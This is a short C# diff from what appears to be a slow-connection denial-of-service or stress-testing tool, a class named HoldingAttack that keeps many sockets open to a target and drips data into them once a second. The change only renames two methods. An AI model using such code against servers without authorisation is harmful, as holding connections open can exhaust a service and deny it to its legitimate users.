@@ -185,7 +185,7 @@ internal sealed class HoldingAttack(Target target, int connections) : Attack(tar
         if (nowMs - _lastDripMs >= 1_000)
         {
             _lastDripMs = nowMs;
-            CloseDropped(nowMs);
+            DripAndCloseDropped(nowMs);
         }
 
         _openMax = Math.Max(_openMax, Sockets.Count);
@@ -202,9 +202,9 @@ internal sealed class HoldingAttack(Target target, int connections) : Attack(tar
     private bool TrySendFirst(AttackSocket socket) =>
         !TrySend(socket, First.AsSpan((int)socket.Sent)) || socket.Sent == First.Length;
 
-    private void CloseDropped(long nowMs) => Sockets.RemoveAll(socket =>
+    private void DripAndCloseDropped(long nowMs) => Sockets.RemoveAll(socket =>
     {
-        if (IsHeld(socket))
+        if (TryDrip(socket))
         {
             return false;
         }
@@ -216,7 +216,7 @@ internal sealed class HoldingAttack(Target target, int connections) : Attack(tar
         return true;
     });
 
-    private bool IsHeld(AttackSocket socket)
+    private bool TryDrip(AttackSocket socket)
     {
         if (!socket.Drain())
         {
